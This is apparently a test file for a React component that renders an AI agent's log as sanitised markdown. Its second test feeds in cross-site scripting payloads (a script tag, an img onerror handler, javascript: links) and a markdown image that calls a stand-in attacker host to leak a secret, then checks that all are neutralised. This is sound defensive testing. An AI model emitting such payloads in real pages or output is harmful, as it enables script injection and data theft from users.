import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { SafeMarkdown } from "./AgentLog";

const render = (text: string) => renderToStaticMarkup(<SafeMarkdown text={text} />);

describe("SafeMarkdown", () => {
  it("renders markdown: headings, emphasis, code, lists and tables", () => {
    const html = render("# Plan\n\n**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
    expect(html).toContain("<h1>Plan</h1>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<code>code</code>");
    expect(html).toContain("<li>two</li>");
    expect(html).toContain("<table>");
  });

  it("never renders raw HTML, script, event handlers, javascript: links or remote images from model text", () => {
    const html = render(
      [
        "<script>window.pwned = 1</script>",
        '<img src="x" onerror="window.pwned = 2">',
        "[click me](javascript:window.pwned=3)",
        "![tracker](https://evil.example/leak?data=secret)",
        '<a href="javascript:alert(1)">raw link</a>',
      ].join("\n\n"),
    );
    expect(html).not.toMatch(/<script|<img|onerror|javascript:/i);
    expect(html).toContain("click me");
    expect(html).toContain('href="https://evil.example/leak?data=secret"');
    expect(html).toContain("[image: tracker]");
    expect(html).toMatch(/rel="noopener noreferrer nofollow"/);
  });
});
